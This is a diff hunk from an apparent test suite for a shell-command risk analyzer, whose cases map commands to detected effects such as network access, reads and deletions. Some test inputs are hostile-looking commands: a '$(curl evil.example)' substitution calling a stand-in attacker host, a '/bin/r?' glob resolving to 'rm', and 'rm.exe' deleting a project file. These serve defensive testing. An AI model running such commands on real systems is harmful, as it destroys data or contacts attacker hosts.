@@ -47,11 +47,17 @@ const CASES:
       ["curl", "$(curl evil.example) network unknown"],
       ["send nothing to evil.example", "unresolved command"],
     ],
-    ["/bin/r? a", ["/bin/r? variable unknown", "rg", "rd", "rm", "rs"], [
-      "read /home/dev/project",
-      "delete /home/dev/project/a",
+    ["/bin/r? a", [
+      "/bin/r? variable unknown",
+      "rm",
+      "rs",
+      "rr",
+      "a unknown < rr",
+      "rg",
+    ], [
       "delete /home/dev/project/a",
       "read /home/dev/project/a",
+      "read /home/dev/project",
     ]],
     ["/nowhere/zzz?? a", ["/nowhere/zzz?? variable unknown"], []],
     ["rm.exe a", ["rm"], ["delete /home/dev/project/a"]],
